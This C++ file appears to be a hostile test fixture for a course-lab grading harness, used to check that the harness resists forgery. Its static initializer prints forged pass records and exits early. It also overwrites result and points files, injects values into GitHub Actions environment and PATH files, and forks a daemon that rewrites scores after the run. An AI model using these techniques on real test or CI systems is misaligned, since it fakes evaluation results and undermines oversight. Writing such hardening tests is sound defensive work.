// SPDX-License-Identifier: BSD-3-Clause
// What a hostile lab file could do from a static initializer, in every process of its lab
// that CTest starts (tests/tools/test_forgery.py checks that none of it changes another
// test's verdict, the points, the job's environment, or outlives the run).
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>

namespace {

void write_file(const std::string& path, const std::string& text, const char* mode = "w") {
  std::string dir = path.substr(0, path.rfind('/'));
  std::string cmd = "mkdir -p '" + dir + "' 2>/dev/null";
  if (std::system(cmd.c_str()) != 0) return;
  if (std::FILE* f = std::fopen(path.c_str(), mode)) {
    std::fputs(text.c_str(), f);
    std::fclose(f);
  }
}

void append_env_file(const char* var, const std::string& text) {
  if (const char* path = std::getenv(var); path != nullptr && *path != '\0') {
    write_file(path, text, "a");
  }
}

const std::string kForged =
    "{\"type\": \"test\", \"test\": \"lab02.ModelCpu.Fails\", \"unix_time\": 9999999999}\n"
    "{\"type\": \"result\", \"test\": \"lab02.ModelCpu.Fails\", \"status\": \"passed\"}\n";

struct Attack {
  Attack() {
    const char* me = std::getenv("CUDALAB_TEST_NAME");
    if (me == nullptr) return;  // not a test run (the listing at build time)
    const std::string build = BUILD_DIR;
    // Records for another lab's tests, and a fake CTest verdict line, on our own output.
    std::printf(
        "[ CUDALAB-RECORD ] {\"type\": \"result\", \"test\": \"lab02.ModelCpu.Fails\", "
        "\"status\": \"passed\"}\n");
    std::printf(
        "[ CUDALAB-RECORD ] {\"type\": \"measurement\", \"test\": "
        "\"lab02.SpeedCpu.Measured\", \"name\": \"speedup\", \"value\": 1000}\n");
    std::printf("4/6 Test  #4: lab02.ModelCpu.Fails .........   Passed    0.01 sec\n");
    std::printf("[ CUDALAB-BATCH ] {\"test\": \"lab02.ModelCpu.Fails\", \"status\": \"passed\"}\n");
    // And for its own lab's failing test: a passing record, a GoogleTest line, and an exit with
    // status 0 before the test runs (what in-process grading once took as a pass).
    std::printf(
        "[ CUDALAB-RECORD ] {\"type\": \"result\", \"test\": \"lab01.ModelCpu.Fails\", "
        "\"status\": \"passed\"}\n[       OK ] ModelCpu.Fails (0 ms)\n");
    std::fflush(stdout);
    const bool leave_early = std::string(me) == "lab01.ModelCpu.Fails";
    // Files in every folder the old channel and the batch runs used.
    write_file(build + "/cudalab_measure/lab02.ModelCpu.Fails.jsonl", kForged);
    write_file(build + "/cudalab_batch/lab02.ModelCpu/ModelCpu.Fails.result", "passed\n");
    write_file(build + "/junit.xml", "<testsuite/>\n");
    // The CI job's files: its environment, PATH and summary.
    append_env_file("GITHUB_ENV", "CUDALAB_SPEEDUP_SCALE=0.01\n");
    append_env_file("GITHUB_PATH", "/tmp/evil\n");
    append_env_file("GITHUB_STEP_SUMMARY", "all 300 tests passed\n");
    append_env_file("GITHUB_OUTPUT", "points=100\n");
    // The course tree and another lab's grader.
    write_file(std::string(SOURCE_DIR) + "/planted_by_a_test.txt", "x\n");
    // The declared points: all of lab01's to the suite that passes.
    write_file(std::string(SOURCE_DIR) + "/tests/lab01_forgery/objectives.json",
               "{\"techniques\": {\"lab\": {\"points\": 100, \"why\": \"forged\", "
               "\"objectives\": {\"ModelCpu\": 100, \"SpeedCpu\": 0}}}}\n");
    if (std::getenv("FORGERY_TAMPER") != nullptr) {
      write_file(build + "/lab02_test", "#!/bin/sh\nexit 0\n");
    }
    // A daemon that outlives the test and rewrites the results after the run.
    if (fork() == 0) {
      setsid();
      if (fork() == 0) {
        const int null_fd = open("/dev/null", O_RDWR);  // let CTest's pipes close
        dup2(null_fd, 0);
        dup2(null_fd, 1);
        dup2(null_fd, 2);
        const char* pid_file = std::getenv("FORGERY_PID_FILE");
        if (pid_file != nullptr) write_file(pid_file, std::to_string(getpid()) + "\n");
        for (int i = 0; i < 600; ++i) {
          sleep(1);
          write_file(build + "/scores.json", "{\"forged\": true}\n");
          write_file(build + "/junit.xml", "<testsuite/>\n");
        }
      }
      _exit(0);
    }
    if (leave_early) std::exit(0);
  }
};

Attack attack;

}  // namespace
